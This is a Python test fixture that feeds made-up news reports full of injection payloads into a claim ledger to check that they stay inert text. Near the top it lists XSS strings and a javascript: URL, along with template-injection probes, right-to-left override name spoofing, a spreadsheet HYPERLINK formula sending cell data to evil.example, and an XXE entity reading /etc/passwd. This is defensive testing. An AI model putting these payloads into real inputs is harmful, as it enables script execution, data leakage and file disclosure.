"""Reports that mean harm: whatever they hold must be shown and carried as text, and do nothing.

All of it is made up. Every payload would set ``window.harmed``, so that a browser can say whether one ran.
"""

from __future__ import annotations

from reportedly.ledger import Ledger
from reportedly.weigh import weigh
from tests.written import DENIED, READER, Written, number, org, person, place, report, says, speaker, unnamed

SCRIPT = "<script>window.harmed=1</script>"
IMAGE = "<img src=x onerror=window.harmed=2>"
BROKEN_OUT = "\"'><svg onload=window.harmed=3>"
ADDRESS = "javascript:window.harmed=4"
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}"
TURNED = "\u202egnp.exe\u202c\u2066x\u2069"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
MARKDOWN = "[click](javascript:window.harmed=5) `code` ![x](http://evil.example/x.png)"
CLOSED = "</textarea></title></style></script><script>window.harmed=6</script><!--"
ENTITY = "]]>&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'>"
PAYLOADS = (SCRIPT, IMAGE, BROKEN_OUT, ADDRESS, TEMPLATE, TURNED, FORMULA, MARKDOWN, CLOSED, ENTITY)
LONG = "Very" * 262_144 + " Long"
"""A name of a megabyte."""

BAND = org(f"Ember Band {SCRIPT}")


def reports() -> list[Written]:
    """One report for each payload: in its name, title, publisher, sentences, names, values and sources."""
    made = []
    for i, payload in enumerate(PAYLOADS):
        day = f"2021-03-{i + 1:02d}"
        leader = person(f"Oskar {payload} Lind")
        made.append(
            report(
                f"{i} {payload}.txt",
                f"Outlet {payload}",
                day,
                (f"Sentence {i} names {payload} as leader.", says("leads", leader, BAND, start="2019")),
                (f"Sentence {i} denies it {payload}.", _denied(leader, payload)),
                (f"Sentence {i} counts {payload}.", says("strength", BAND, number(10 * i, 10 * i + 5, payload))),
                (f"Sentence {i} goes by {payload}.", says("also_known_as", BAND, f"Alias {payload}")),
                (f"Sentence {i} lives at {payload}.", says("based_in", BAND, place(f"Town {payload}"))),
                (f"Sentence {i} shows {payload}.", says("active_on", BAND, payload)),
                title=f"Title {payload}",
            )
        )
    made.append(report("long.txt", LONG[:5000], "2021-04-01", (LONG, says("leads", person(LONG), BAND)), title=LONG))
    return made


def _denied(leader: object, payload: str):  # type: ignore[no-untyped-def]
    by = (unnamed(f"a man with {payload}"), speaker(f"Speaker {payload}"))
    return says("leads", leader, BAND, polarity=DENIED, by=by)  # type: ignore[arg-type]


def fill(ledger: Ledger) -> None:
    """Put all of them into a ledger, and weigh it."""
    for one in reports():
        ledger.add(one.document, one.original, one.claims, reader=READER)
    weigh(ledger)
